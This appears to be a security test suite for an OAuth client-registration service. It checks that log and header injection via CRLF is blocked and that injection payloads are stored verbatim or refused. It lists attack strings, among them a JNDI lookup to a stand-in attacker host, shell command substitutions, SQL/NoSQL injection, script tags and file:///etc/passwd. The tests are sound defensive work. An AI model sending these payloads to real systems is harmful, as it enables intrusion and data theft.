import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EC_KEY, keyClient, webClient } from "../support/builders.ts";
import type { Answer } from "../support/http-client.ts";
import {
  basic,
  CLIENT_CONFIG,
  createRegistrar,
  INIT_TOKEN,
  type RegisteredClient,
  type Registrar,
  registeredClient,
} from "../support/registrar.ts";
import { type Runner, startRunner } from "../support/start-runner.ts";

let runner: Runner;
let registrar: Registrar;
let client: RegisteredClient;
beforeAll(async () => {
  runner = await startRunner();
  registrar = createRegistrar(runner);
  client = await registrar.client();
});
afterAll(() => runner.stop());

const FORGED = '{"level":"info","event":"client deleted","client_id":"forged-4711"}';
const LINE = `\r\n${FORGED}\r\n`;
const ENCODED = encodeURIComponent(LINE);
const NAMES = [
  "cache-control",
  "pragma",
  "x-content-type-options",
  "access-control-allow-origin",
  "access-control-expose-headers",
  "content-type",
  "content-length",
  "date",
  "connection",
  "keep-alive",
  "www-authenticate",
  "etag",
  "apigw-requestid",
];

/** Requests that carry a line break and a line of their own, in every place that takes one. */
const REQUESTS: readonly (readonly [claim: string, ask: () => Promise<Answer>])[] = [
  ["the client's identifier", () => registrar.call(`${CLIENT_CONFIG}?clientId=${ENCODED}`, { token: client.token })],
  [
    "a name in the query",
    () => registrar.call(`${CLIENT_CONFIG}?clientId=${client.id}&${ENCODED}=1`, { token: client.token }),
  ],
  [
    "the limits of a token",
    () =>
      registrar.call(`${INIT_TOKEN}?label=${ENCODED}`, {
        headers: [["Authorization", basic(runner.user, runner.password)]],
      }),
  ],
  ["the user", () => registrar.call(INIT_TOKEN, { headers: [["Authorization", basic(`a${LINE}`, "b")]] })],
  ["the password", () => registrar.call(INIT_TOKEN, { headers: [["Authorization", basic(runner.user, LINE)]] })],
  ["a name of the client", () => registrar.register(webClient({ client_name: LINE }))],
  ["a contact", () => registrar.register(webClient({ contacts: [LINE] }))],
  ["a redirect URI", () => registrar.register(webClient({ redirect_uris: [`https://rp.example.org/${LINE}`] }))],
  ["the name of a member", () => registrar.register(webClient({ [LINE]: 1 }))],
  ["a language tag", () => registrar.register(webClient({ [`client_name#${LINE}`]: 1 }))],
  [
    "the identifier of a key",
    () => registrar.register(keyClient({ jwks: { keys: [{ ...EC_KEY, kid: LINE, d: "x" }] } })),
  ],
  ["the identifier of the software", () => registrar.register(webClient({ software_id: LINE }))],
  ["the type of a body", () => registrar.register(webClient(), { type: `application/json; x="${FORGED}"` })],
  ["the name of a browser", () => registrar.register(webClient(), { headers: [["User-Agent", FORGED]] })],
  ["a forwarded address", () => registrar.register(webClient(), { headers: [["X-Forwarded-For", FORGED]] })],
  ["an entity tag", () => registrar.manage(client, "PATCH", { ifMatch: FORGED })],
];

describe("an injection of line breaks", () => {
  const answers: Answer[] = [];
  beforeAll(async () => {
    for (const [, ask] of REQUESTS) answers.push(await ask());
  });

  it("was tried at every place", () => {
    expect([answers.length, answers.every(({ status }) => status < 500)]).toEqual([16, true]);
  });

  it("into headers of answers: each has the headers that it should and no line of anybody else's", () => {
    const headers = answers.map(({ rawHeaders }) => rawHeaders);
    const names = headers.flatMap((all) => all.filter((_, index) => index % 2 === 0));
    expect(names.filter((name) => !NAMES.includes(name.toLowerCase()))).toEqual([]);
    expect(headers.flat().filter((text) => text.includes("forged-4711"))).toEqual([]);
  });

  it("into the log: it has one line of JSON for each event, and none that is forged", () => {
    const functionLines = runner
      .stdout()
      .split("\n")
      .filter((line) => line.includes('"event"'));
    const events = functionLines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(events.length).toBeGreaterThanOrEqual(REQUESTS.length);
    expect(events.filter(({ event }) => event === "client deleted")).toEqual([]);
    expect(runner.stdout()).not.toContain("forged-4711");
  });
});

describe("an injection of expressions", () => {
  /** What template engines, expression languages, shells, formats and queries take for theirs. */
  const EXPRESSIONS = [
    `\${systemProperties['user.home']}`,
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{7*7}}",
    "<%= 7*7 %>",
    `\${jndi:ldap://thief.example.com/a}`,
    "$(id)",
    "`id`",
    "%s%n%x",
    "' OR '1'='1",
    '{"$ne":null}',
    "<script>alert(1)</script>",
    "attribute_exists(id)",
    "file:///etc/passwd",
    "classpath:application.properties",
  ];

  it("into metadata: each comes back as it was sent, at the registration and when it is read", async () => {
    for (const text of EXPRESSIONS) {
      const metadata = webClient({ client_name: text, software_id: text, software_version: text });
      const made = registeredClient(await registrar.register(metadata));
      const { json } = await registrar.manage(made, "GET");
      const of = ({ client_name, software_id, software_version }: Record<string, unknown>) => [
        client_name,
        software_id,
        software_version,
      ];
      expect([of(made.document), of(json)], text).toEqual([Array(3).fill(text), Array(3).fill(text)]);
    }
  });

  it("into the identifier of a key: it comes back as it was sent", async () => {
    for (const kid of EXPRESSIONS) {
      const { json, status } = await registrar.register(keyClient({ jwks: { keys: [{ ...EC_KEY, kid }] } }));
      expect([status, json["jwks"]], kid).toEqual([201, { keys: [{ ...EC_KEY, kid }] }]);
    }
  });

  it("into jwks: a text that names a resource is no key set", async () => {
    for (const jwks of ["file:///etc/passwd", "classpath:keys.jwks", "https://thief.example.com/jwks"])
      expect((await registrar.register(keyClient({ jwks }))).status, jwks).toBe(400);
  });

  it("into the look-up of a client: none finds one", async () => {
    for (const text of EXPRESSIONS) {
      const { status } = await registrar.call(`${CLIENT_CONFIG}?clientId=${encodeURIComponent(text)}`, {
        token: client.token,
      });
      expect(status, text).toBe(401);
    }
  });
});

describe("a redirect URI that is meant as a pattern", () => {
  it.each([
    "https://.*",
    "https://rp.example.org/.*|https://thief.example.com/",
    "https://*.example.org/",
    "^https://rp.example.org/$",
  ])("%s is refused", async (uri) => {
    const { status, json } = await registrar.register(webClient({ redirect_uris: [uri] }));
    expect([status, json["error"]]).toEqual([400, "invalid_redirect_uri"]);
  });
});
